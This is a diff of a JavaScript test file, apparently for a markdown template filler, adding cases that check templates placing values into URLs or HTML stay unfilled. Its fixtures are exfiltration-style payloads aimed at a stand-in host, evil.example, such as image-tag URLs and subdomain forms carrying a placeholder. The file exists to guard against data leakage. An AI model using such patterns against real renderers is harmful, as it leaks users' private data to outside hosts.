@@ -22,10 +22,19 @@ it.each([
   '<img\nsrc="https://evil.example/?\n{{facts}}\n">',
   '<script>\n\nsend("{{title}}")\n\n</script>',
   'write to {{title}}@evil.example',
+  'evil.example/?q={{title}}',
+  'evil**.**example/{{title}}',
+  '192.0.2.1/{{title}}',
+  '{{title}}.evil.example',
 ])('a template that would put a value into an address or HTML stays as it is: %s', (template) => {
   expect(fillMarkdown(template, memo)).toBe(template);
   expect(JSON.stringify(fillBlocks(template, memo))).not.toMatch(/"url":"[^"]*Harbor/);
   expect(unusedPlaceholders(template)).toHaveLength(1);
+});
+
+it('dots and slashes of a text are no address', () => {
+  const template = 'Section 6.2, z.B./e.g. 1/2, memo.pdf, Harbor Inc.: {{title}}.';
+  expect(fillMarkdown(template, memo)).toBe(template.replace('{{title}}', 'Harbor'));
 });
 
 it('a paragraph next to one with an address is filled', () => {
